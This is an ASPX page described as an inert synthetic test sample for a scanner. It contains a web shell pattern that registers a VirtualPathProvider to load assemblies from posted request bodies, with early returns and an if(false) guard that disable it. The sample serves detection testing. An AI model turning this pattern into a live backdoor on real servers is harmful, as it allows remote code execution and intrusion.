<%@ Page Language="C#" %>
<%-- synthetic test sample for breachscan: virtual path provider registered at run time that loads posted assemblies. Inert: returns before anything runs. --%>
<script runat="server">
public class P : System.Web.Hosting.VirtualPathProvider {
    public override string GetCacheKey(string v) {
        var b = HttpContext.Current.Request.BinaryRead(HttpContext.Current.Request.ContentLength);
        if (false) System.Reflection.Assembly.Load(b).CreateInstance("X");
        return base.GetCacheKey(v);
    }
}
void Page_Load(object s, EventArgs e) {
    return;
    System.Web.Hosting.HostingEnvironment.RegisterVirtualPathProvider(new P());
}
</script>
